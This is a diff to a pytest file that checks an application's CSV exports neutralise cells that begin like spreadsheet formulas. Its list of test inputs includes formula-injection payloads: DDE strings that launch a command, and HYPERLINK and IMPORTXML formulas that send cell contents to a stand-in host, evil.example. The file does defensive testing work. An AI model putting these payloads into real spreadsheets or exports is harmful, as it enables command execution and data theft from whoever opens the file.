@@ -1,16 +1,23 @@
 import csv
 import io
+import json
 import re
+import unicodedata
 from dataclasses import replace
 from decimal import Decimal
+from typing import Any
 
+import httpx
 import pytest
 from hypothesis import given, strategies as st
 
 from app.api.exports import FORMULAS, TABLES, export
+from app.api.exports.columns import Type
 from tests.api.exports import told
+from tests.holding import Held
 
 HARMLESS = ("Fire", "", "5 - 3", "a=b", "'tis", "“=1”", "…", "1", "'", " ", "(=1)", "#N/A")
+NOT_TEXT = {"published_at", "received_at", "value", "low", "high"}
 FORMULA_LIKE = (
     "=1+1",
     "+1",
@@ -26,7 +33,23 @@ FORMULA_LIKE = (
     " =1",
     "\u00a0\u2003=1",
     " \n-x",
+    "\ufeff=1",
+    "\u200b+1",
+    "\u202e\xad\x1b@A1",
+    "﹦1",
+    "﹫A1",
+    "=cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"more")',
+    '=DDE("cmd";"/C calc";"x")',
+    '+IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+    "-2+3+cmd|' /C calc'!D2",
+    "\t=1",
+    "\r\n=1",
+    "'=1",
+    "''\u3000＝1",
 )
+_TEXTS = {Type.TEXT, Type.TEXTS, Type.WHOLES}
 
 
 def read(written: bytes) -> list[dict[str, str]]:
@@ -60,6 +83,50 @@ def test_text_like_a_formula_has_an_apostrophe_in_front(text: str) -> None:
 def test_list_like_a_formula_has_an_apostrophe_in_front() -> None:
     (row,) = rows("articles", told.articles(replace(told.STORY, authors=("=1", "=2"))))
     assert row["authors"] == "'=1; =2"
+
+
+@pytest.mark.parametrize("resource", TABLES)
+def test_no_text_of_any_column_begins_a_formula(resource: str, held: Held) -> None:
+    columns = [column.name for column in TABLES[resource] if column.type in _TEXTS]
+    for text in FORMULA_LIKE:
+        documents = [json.dumps(everywhere(json.loads(each), text)).encode() for each in told.RESOURCES[resource]()]
+        for row in rows(resource, documents):
+            begun = {name for name in columns if row[name].startswith("'") and text.strip() in row[name]}
+            assert all(not starts_formula(row[name]) for name in columns), text
+            assert begun >= {name for name in columns if text in row[name]}
+            held("formulas", len(begun))
+
+
+def test_no_text_that_was_posted_begins_a_formula(client: httpx.Client, held: Held) -> None:
+    for number, text in enumerate(FORMULA_LIKE):
+        posted = {
+            "text": f"{text}\n“It held,” said Ana Ruiz.",
+            "title": text,
+            "publisher": text,
+            "authors": [text, text],
+        }
+        made = client.post("/v1/articles", json=posted | {"url": f"https://news.example/{number}"})
+        assert made.status_code == 201, made.text
+    for resource in ("articles", "claims", "speakers", "findings", f"articles/{made.json()['id']}/revisions"):
+        found = read(client.get(f"/v1/{resource}?format=csv").content)
+        cells = [cell for row in found for name, cell in row.items() if name not in NOT_TEXT]
+        assert not list(filter(starts_formula, cells))
+        held("formulas", sum(cell.startswith("'") for cell in cells))
+
+
+def everywhere(node: Any, text: str) -> Any:
+    """Put a text in place of every string, but where it would have to be a number or a time."""
+    if isinstance(node, dict):
+        return {name: value if name in NOT_TEXT else everywhere(value, text) for name, value in node.items()}
+    if isinstance(node, list):
+        return [everywhere(each, text) for each in node]
+    return text if isinstance(node, str) else node
+
+
+def starts_formula(cell: str) -> bool:
+    """Tell whether the first thing that can be seen of a cell makes it a formula."""
+    seen = next((each for each in cell if each in "\t\r\n" or unicodedata.category(each)[0] not in "CZ"), "")
+    return bool(seen) and unicodedata.normalize("NFKC", seen) in {*"=+-@\t\r\n"}
 
 
 @given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")) | st.from_regex(r"\A'*\s*[=+@-]"))
